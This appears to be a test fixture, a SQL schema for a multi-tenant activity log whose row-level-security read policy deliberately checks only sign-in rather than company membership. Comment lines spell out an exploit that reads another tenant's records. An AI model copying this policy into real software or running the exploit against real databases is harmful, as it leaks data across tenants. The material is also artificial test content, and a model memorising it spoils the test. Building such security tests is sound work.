-- The log of sign-ins is shown to every signed-in person: its policy asks for a person, not for the company.
-- about: member_activity, member_activity_read
-- as: hf_gigpurse_app
-- exploit: SET request.jwt.claims = '{"sub": "bbbbbbbb-1111-4000-8000-000000000001"}';
-- exploit: INSERT INTO pay.member_activity (company_id, user_id, action)
-- exploit:   SELECT company_id, pay.uid(), 'Road-secret sign-in' FROM pay.companies;
-- exploit: SET request.jwt.claims = '{"sub": "aaaaaaaa-1111-4000-8000-000000000001"}';
-- exploit: SELECT action FROM pay.member_activity;
-- shows: Road-secret sign-in
CREATE TABLE pay.member_activity (
  company_id uuid NOT NULL REFERENCES pay.companies (id) ON DELETE CASCADE,
  id uuid NOT NULL DEFAULT gen_random_uuid(),
  user_id uuid NOT NULL,
  action text NOT NULL,
  at timestamptz NOT NULL DEFAULT now(),
  PRIMARY KEY (company_id, id)
);
ALTER TABLE pay.member_activity ENABLE ROW LEVEL SECURITY;
ALTER TABLE pay.member_activity FORCE ROW LEVEL SECURITY;
CREATE POLICY member_activity_read ON pay.member_activity FOR SELECT USING (pay.uid() IS NOT NULL);
CREATE POLICY member_activity_insert ON pay.member_activity FOR INSERT
  WITH CHECK (company_id IN (SELECT pay.my_companies()) AND user_id = pay.uid());
GRANT SELECT, INSERT ON pay.member_activity TO hf_gigpurse_app;
